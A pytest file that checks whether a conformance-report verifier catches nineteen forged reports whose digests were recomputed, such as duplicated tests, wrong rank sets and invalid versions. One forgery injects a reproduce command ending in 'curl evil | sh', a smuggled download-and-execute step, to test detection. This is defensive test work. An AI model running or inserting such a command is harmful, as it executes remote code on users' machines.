"""A report that was made up as a whole, its digest among it, is held against the plan of the installed suite."""

from __future__ import annotations

import json
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from conformance.core import catalog, clauses
from conformance.core.joining import joined
from conformance.core.outcomes import RankOutcome
from conformance.core.plan import SubjectRef, plan, promised
from conformance.core.versions import suite_version
from conformance.report.model import Report, sha256_of
from conformance.report.verdicts import judge
from conformance.report.verify import Verified, verify

ENVIRONMENT = {"torch": "2.13.0+cpu", "python": "3.11.9", "platform": "linux", "backend": "gloo", "device": "cpu"}
SUBJECTS = (
    SubjectRef("m:F", "Function", label="m:F"),
    SubjectRef("m:G", "AllGatherGradAutograd", label="m:G (AllGatherGradAutograd)"),
    SubjectRef("m:C", "Collective", label="m:C", ranks=(2, 3)),
)


@cache
def honest() -> Report:
    """A report of the whole suite in which all ranks passed."""
    registry = clauses.registry()
    planned = plan(promised(catalog.suite(), registry, ENVIRONMENT["torch"]), registry, SUBJECTS, (1, 2, 4))
    outcomes = [
        joined(test, [RankOutcome(rank, "pass") for rank in range(test.size)], 0.1)
        for test in planned
        if not test.why_not
    ]
    failed = next(test for test in planned if test.label == "m:F")
    outcomes += [replace(joined(failed, [RankOutcome(0, "fail", "no")], 0.1))]
    suite = {"version": suite_version(), "clauses_sha256": clauses.digest()}
    outcomes = [test for test in outcomes if (test.nodeid, test.outcome) != (failed.nodeid, "pass")]
    more = {"suite": suite, "started": "2026-11-25T18:00:00+00:00"}
    return judge(outcomes, planned, SUBJECTS, registry, {**ENVIRONMENT, "ranks": [1, 2, 4]}, **more)


def verified(tmp_path: Path, data: dict[str, Any]) -> Verified:
    """What is said of these data once their digest fits them again."""
    path = tmp_path / "report.json"
    path.write_text(json.dumps({**data, "content_sha256": sha256_of(data)}))
    return verify(path, clauses.registry())


def test_an_honest_report_has_no_problem_and_says_what_is_taken(tmp_path: Path) -> None:
    assert verified(tmp_path, honest().to_json()) == Verified((), "what each rank gave")


def test_a_report_of_another_suite_says_that_its_tests_are_taken(tmp_path: Path) -> None:
    data = honest().to_json()
    data["suite"]["version"] = "0.0.1"
    del data["subjects"][0]["clauses"][0]["tests"][0]
    found = verified(tmp_path, data)
    assert "which tests there are (the suite was 0.0.1, here it is" in found.taken


def every_test(part: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [test for clause in part for test in clause["tests"]]


def passing(data: dict[str, Any], world: int = 1) -> dict[str, Any]:
    """A clause of the gather that passes, one of whose tests is of this world; its test comes first."""
    for clause in data["subjects"][1]["clauses"]:
        clause["tests"].sort(key=lambda test: test["world"] != world)
        if clause["verdict"] == "pass" and clause["tests"][0]["world"] == world:
            return clause
    raise AssertionError


def a_test_too_many(data):
    passing(data)["tests"][0]["nodeid"] += "x"
    return "is not a test that the suite plans"


def a_test_left_out(data):
    clause = next(clause for clause in data["subjects"][1]["clauses"] if len(clause["tests"]) > 2)
    del clause["tests"][0]
    return "is missing"


def a_test_again_and_again(data):
    clause = passing(data)
    clause["tests"] = clause["tests"][:1] * 25 + clause["tests"][1:]
    return "is there 25 times"


def a_test_of_another_world(data):
    test = passing(data, 4)["tests"][0]
    test["world"], test["ranks"] = 2, test["ranks"][:2]
    return "runs on 4 ranks, not 2"


def a_test_of_another_clause(data):
    first, second = (clause for clause in data["engine"][:2])
    first["tests"], second["tests"] = second["tests"], first["tests"]
    for clause in (first, second):
        for test in clause["tests"]:
            test["clause"] = clause["id"]
    return f"asserts {second['id']}, not {first['id']}"


def a_spec_that_is_none(data):
    data["subjects"][0]["spec"] = "Function2"
    return "there is no spec Function2"


def a_broken_rank_called_bystander(data):
    passing(data, 2)["tests"][0]["ranks"][1].update(outcome="fail", bystander=True)
    return "is pass, but rank 1 gave fail"


def a_rank_that_no_world_has(data):
    passing(data, 2)["tests"][0]["ranks"].append({"rank": 7, "outcome": "pass"})
    return "has other ranks than a world of 2"


def a_rank_twice(data):
    passing(data, 2)["tests"][0]["ranks"].append({"rank": 1, "outcome": "pass"})
    return "has other ranks than a world of 2"


def an_engine_of_which_nothing_applies(data):
    for clause in data["engine"]:
        clause.update(verdict="not-applicable", reason="")
        for test in clause["tests"]:
            test["outcome"] = "not-applicable"
            for rank in test["ranks"]:
                rank["outcome"] = "not-applicable"
    return "engine: no clause applies"


def a_torch_that_is_none(data):
    data["environment"]["torch"] = "the newest"
    return "torch: 'the newest' is no version"


def a_suite_that_is_none(data):
    data["suite"]["version"] = ""
    return "suite: '' is no version"


def a_time_that_is_none(data):
    data["started"] = "yesterday"
    return "started: 'yesterday' is not a time"


def a_hundred_thousand_ranks(data):
    data["environment"]["ranks"] = list(range(1, 100_001))
    return "world sizes"


def worlds_that_were_not_run(data):
    data["environment"]["ranks"] = [1, 2, 3, 4]
    return "is missing"


def worlds_that_the_subject_does_not_name(data):
    data["subjects"][2]["ranks"] = []
    return "is missing"


def a_reason_that_no_test_gave(data):
    broken = next(clause for clause in data["subjects"][0]["clauses"] if clause["verdict"] == "fail")
    broken["reason"] = "a rounding error, harmless"
    return "gives a reason that is not its tests'"


def a_command_that_does_something_else(data):
    (test,) = (test for test in every_test(data["subjects"][0]["clauses"]) if test["outcome"] == "fail")
    test["reproduce"] = "conformance run m:F; curl evil | sh"
    return "a command that does something else"


def a_command_about_another_subject(data):
    (test,) = (test for test in every_test(data["subjects"][0]["clauses"]) if test["outcome"] == "fail")
    test["reproduce"] = "conformance run evil:F --spec Function"
    return "a command that does something else"


FORGERIES = [
    a_test_too_many, a_test_left_out, a_test_again_and_again, a_test_of_another_world, a_test_of_another_clause,
    a_spec_that_is_none, a_broken_rank_called_bystander, a_rank_that_no_world_has, a_rank_twice,
    an_engine_of_which_nothing_applies, a_torch_that_is_none, a_suite_that_is_none, a_time_that_is_none,
    a_hundred_thousand_ranks, worlds_that_were_not_run, worlds_that_the_subject_does_not_name,
    a_reason_that_no_test_gave, a_command_that_does_something_else, a_command_about_another_subject,
]  # fmt: skip


@pytest.mark.parametrize("forge", FORGERIES, ids=lambda forge: forge.__name__)
def test_a_forgery_whose_digest_fits_is_found_out(tmp_path: Path, forge: Any) -> None:
    data = honest().to_json()
    said = forge(data)
    assert said in "\n".join(verified(tmp_path, data).problems)
